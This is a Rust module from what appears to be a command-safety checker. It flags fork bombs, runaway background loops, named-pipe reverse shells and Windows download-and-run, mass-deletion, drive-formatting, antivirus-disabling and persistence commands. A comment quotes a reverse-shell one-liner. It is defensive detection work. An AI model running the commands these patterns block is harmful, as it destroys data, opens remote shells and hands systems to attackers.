//! What can only be seen in the text as a whole: fork bombs that no parser accepts, endless loops that start processes,
//! pairs of commands that share a named pipe, and commands of Windows, whose words no Unix shell would take apart.

use regex::Regex;
use std::sync::LazyLock;

use super::super::ShellKind;
use super::super::state::Judge;
use super::super::word::Command;
use crate::Level;

/// `name(){ name|name& };name` in any spacing; the repeated name is compared in code.
static BOMB: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"([\w:.]+)\s*\(\)\s*\{\s*([\w:.]+)\s*\|\s*([\w:.]+)\s*&\s*;?\s*\}").ok()
});

static REINCARNATION: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"\$0\s*(?:\|\s*\$0\s*)?&\s*(?:\$0|exec\s+\$0)|\bwhile\s+(?:true|:)\s*;?\s*do\s+[^;\n]*&\s*done").ok()
});

/// Commands of Windows: a pattern in lower case, what it is, what is at stake.
const WINDOWS: &[(&str, ShellKind, Level, &str)] = &[
    (
        r"\bcertutil\b.*-urlcache\b.*https?://",
        ShellKind::DownloadRun,
        Level::Blocked,
        "downloads a program with `certutil`",
    ),
    (
        r"\bmshta\b.*(?:https?:|javascript:|vbscript:)",
        ShellKind::DownloadRun,
        Level::Blocked,
        "runs a script from the network with `mshta`",
    ),
    (
        r"\bregsvr32\b.*/i:https?://|\brundll32\b.*javascript:|\bmsiexec\b.*/i\s+https?://",
        ShellKind::DownloadRun,
        Level::Blocked,
        "runs a program from the network",
    ),
    (
        r"\bbitsadmin\b.*/transfer\b",
        ShellKind::DownloadRun,
        Level::High,
        "downloads a file with `bitsadmin`",
    ),
    (
        r"\b(?:rd|rmdir)\b.*/s\b.*(?:c:\\?(?:\s|$|users|windows)|%userprofile%|%systemroot%)",
        ShellKind::Delete,
        Level::Blocked,
        "deletes the folder of the users or of the system",
    ),
    (
        r"\bdel\b.*/s\b.*(?:c:\\?(?:\s|$|\*|users|windows)|%userprofile%|%systemroot%)",
        ShellKind::Delete,
        Level::Blocked,
        "deletes the files of the users or of the system",
    ),
    (
        r"\bformat\s+[a-z]:",
        ShellKind::Disk,
        Level::Blocked,
        "formats a drive",
    ),
    (
        r"\b(?:iex|invoke-expression)\b.*(?:downloadstring|downloadfile|webclient|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b)",
        ShellKind::DownloadRun,
        Level::Blocked,
        "runs what PowerShell downloads",
    ),
    (
        r"(?:downloadstring|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b).*\|\s*(?:iex|invoke-expression)\b",
        ShellKind::DownloadRun,
        Level::Blocked,
        "runs what PowerShell downloads",
    ),
    (
        r"\bset-mppreference\b.*-disable|\badd-mppreference\b.*-exclusion",
        ShellKind::Protection,
        Level::High,
        "turns the virus scanner off",
    ),
    (
        r"\bcipher(?:\.exe)?\s+/w:",
        ShellKind::Delete,
        Level::High,
        "overwrites free disk space",
    ),
    (
        r"\bschtasks\b.*/create\b|\breg\s+add\b.*\\run\b",
        ShellKind::Persistence,
        Level::High,
        "arranges to be run again",
    ),
];

static WINDOWS_PATTERNS: LazyLock<Option<regex::RegexSet>> =
    LazyLock::new(|| regex::RegexSet::new(WINDOWS.iter().map(|(pattern, ..)| pattern)).ok());

fn windows(judge: &mut Judge, text: &str, whole: &Command) {
    let Some(patterns) = WINDOWS_PATTERNS.as_ref() else {
        return;
    };
    for hit in patterns.matches(&text.to_ascii_lowercase()) {
        let (_, kind, level, message) = WINDOWS[hit];
        judge.report(kind, level, message.to_owned(), whole);
    }
}

/// Judges the text.
pub(super) fn text(judge: &mut Judge, text: &str) {
    let whole = Command {
        start: 0,
        end: text.len(),
        ..Command::default()
    };
    if let Some(bomb) = BOMB.as_ref() {
        let hit = bomb
            .captures_iter(text)
            .take(50)
            .any(|found| found[1] == found[2] && found[2] == found[3]);
        if hit {
            let message = "fork bomb: starts itself twice without end".to_owned();
            judge.report(ShellKind::Exhaustion, Level::Blocked, message, &whole);
        }
    }
    if REINCARNATION
        .as_ref()
        .is_some_and(|pattern| pattern.is_match(text))
    {
        let message = "starts processes in the background without end".to_owned();
        judge.report(ShellKind::Exhaustion, Level::Blocked, message, &whole);
    }
    shared_pipe(judge, text, &whole);
    windows(judge, text, &whole);
}

/// `mkfifo p; cat p | sh | nc host 1 > p` in any order.
fn shared_pipe(judge: &mut Judge, text: &str, whole: &Command) {
    if judge.pipes.is_empty() {
        return;
    }
    let network = ["nc ", "ncat ", "netcat ", "telnet ", "s_client", "socat "]
        .iter()
        .any(|p| text.contains(p));
    let shell = ["sh ", "bash ", "/sh", "/bash"]
        .iter()
        .any(|p| text.contains(p));
    if network && shell {
        let message = "connects a shell to the network through a named pipe".to_owned();
        judge.report(ShellKind::ReverseShell, Level::Blocked, message, whole);
    }
}
